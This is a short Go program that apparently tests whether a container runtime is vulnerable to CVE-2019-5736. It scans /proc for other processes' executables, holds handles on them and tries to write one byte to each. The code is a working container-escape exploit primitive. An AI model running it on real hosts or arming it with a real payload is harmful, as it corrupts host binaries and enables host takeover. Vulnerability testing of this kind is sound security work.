package main

import (
	"fmt"
	"path/filepath"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// exe plays CVE-2019-5736: it watches every process it can see for an executable that is not its own,
// keeps a handle on it, and tries to get write access as soon as the file is no longer busy.
func exe(args []string) error {
	seconds, err := strconv.ParseFloat(args[0], 64)
	if err != nil {
		return err
	}
	own, err := ownFiles()
	if err != nil {
		return err
	}
	h := hunt{own: own, seen: map[fileID]int{}}
	fmt.Println("hunting")
	for end := time.Now().Add(time.Duration(seconds * float64(time.Second))); time.Now().Before(end); {
		links, err := filepath.Glob("/proc/[0-9]*/exe")
		if err != nil {
			return err
		}
		for _, link := range links {
			h.grab(link)
		}
		for id, fd := range h.seen {
			h.overwrite(id, fmt.Sprintf("/proc/self/fd/%d", fd))
		}
	}
	fmt.Println("seen", len(h.seen), "written", h.written)
	return nil
}

type fileID struct {
	dev, ino uint64
}

type hunt struct {
	own     map[fileID]bool
	seen    map[fileID]int // handle by file
	written int
}

// ownFiles are the executables that belong to the container: writing to those proves nothing.
func ownFiles() (map[fileID]bool, error) {
	own := map[fileID]bool{}
	for _, path := range []string{"/proc/self/exe", "/bin/busybox"} {
		var st unix.Stat_t
		if err := unix.Stat(path, &st); err != nil {
			return nil, err
		}
		own[fileID{st.Dev, st.Ino}] = true
	}
	return own, nil
}

// grab keeps a handle on the executable of a process. Most processes end while it looks: no error counts.
func (h *hunt) grab(link string) {
	fd, err := unix.Open(link, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil || h.own[fileID{st.Dev, st.Ino}] {
		_ = unix.Close(fd)
		return
	}
	id := fileID{st.Dev, st.Ino}
	if _, ok := h.seen[id]; ok {
		_ = unix.Close(fd)
		return
	}
	h.seen[id] = fd
	h.overwrite(id, link)
}

// overwrite counts a write that the kernel accepted. Opening alone is not a hit: a sealed memory file
// opens for writing and then refuses the write.
func (h *hunt) overwrite(id fileID, path string) {
	for _, mode := range []int{unix.O_WRONLY, unix.O_RDWR} {
		fd, err := unix.Open(path, mode|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if n, err := unix.Pwrite(fd, []byte("#"), 0); err == nil && n == 1 {
			h.written++
			fmt.Printf("WROTE to file %d:%d\n", id.dev, id.ino)
		}
		_ = unix.Close(fd)
	}
}
